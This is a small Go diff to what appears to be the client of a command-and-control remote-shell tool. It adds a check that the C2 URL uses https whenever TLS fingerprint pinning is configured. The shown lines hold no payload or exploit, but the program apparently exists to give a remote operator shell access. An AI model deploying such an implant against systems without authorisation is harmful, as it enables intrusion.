@@ -19,6 +19,7 @@ import (
 	"errors"
 	"fmt"
 	"net/http"
+	"net/url"
 	"os/exec"
 	"strings"
 )
@@ -73,6 +74,15 @@ func Go(ctx context.Context, conf ConnConfig, shell Shell) error {
 	client := new(http.Client)
 	/* Add fingerprint verification if we have it. */
 	if "" != conf.Fingerprint {
+		/* A fingerprint can only be checked on a TLS connection. */
+		if u, err := url.Parse(conf.C2); nil != err {
+			return fmt.Errorf("parsing C2 URL: %w", err)
+		} else if "https" != u.Scheme {
+			return fmt.Errorf(
+				"fingerprint set but C2 URL scheme is %q, not https",
+				u.Scheme,
+			)
+		}
 		vfp, err := TLSFingerprintVerifier(conf.Fingerprint)
 		if nil != err {
 			return fmt.Errorf(
